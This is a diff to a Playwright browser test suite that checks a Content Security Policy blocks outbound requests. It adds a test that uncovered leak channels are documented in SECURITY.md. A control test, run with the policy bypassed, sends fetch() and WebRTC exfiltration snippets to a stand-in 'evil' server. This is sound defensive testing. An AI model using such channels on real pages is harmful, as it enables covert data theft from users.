@@ -14,6 +14,7 @@ from playwright.sync_api import Browser, BrowserContext, Page, Playwright, expec
 from tests.browser.conftest import compiled_again, serving
 from tests.browser.find_browser import installed_firefox
 from tests.browser.probe import (
+    NOT_COVERED,
     PAGE_WAYS_OUT,
     PYTHON_WAYS_OUT,
     WAYS_OUT,
@@ -24,7 +25,7 @@ from tests.browser.probe import (
     outcome,
     python,
 )
-from tests.conftest import free_port
+from tests.conftest import ROOT, free_port
 
 FORM = "/emails/thank-you/"
 
@@ -150,6 +151,13 @@ def test_nothing_leaves_the_page(context_of: BrowserContext, server: str, evil: 
     assert evil.seen == []
 
 
+@pytest.mark.parametrize("name", NOT_COVERED)
+def test_what_no_policy_covers_is_named(name: str) -> None:
+    """A page may always be left; who reads what is promised must find that there."""
+    words = (ROOT / "SECURITY.md").read_text(encoding="utf-8")
+    assert f"`{name}`" in words
+
+
 def test_the_second_server_would_notice(page: Page, evil: Evil, server: str) -> None:
     """Without a policy the attempts do arrive: the tests above are worth something."""
     context = page.context.browser.new_context(bypass_csp=True)  # type: ignore[union-attr]
@@ -158,6 +166,15 @@ def test_the_second_server_would_notice(page: Page, evil: Evil, server: str) -> 
     evil.seen.clear()
     open_page.evaluate(f"fetch('{evil.address}/fetch', {{mode: 'no-cors'}}).then(() => true)")
     assert evil.seen == ["GET /fetch HTTP/1.1"]
+    # And so does what was taken away from our pages.
+    evil.seen.clear()
+    open_page.goto("about:blank")
+    open_page.evaluate(f"() => {{ {PAGE_WAYS_OUT['webrtc'].replace('EVIL', evil.address)} }}")
+    for _ in range(100):
+        if evil.seen:
+            break
+        open_page.wait_for_timeout(100)
+    assert evil.seen
     context.close()
 
 
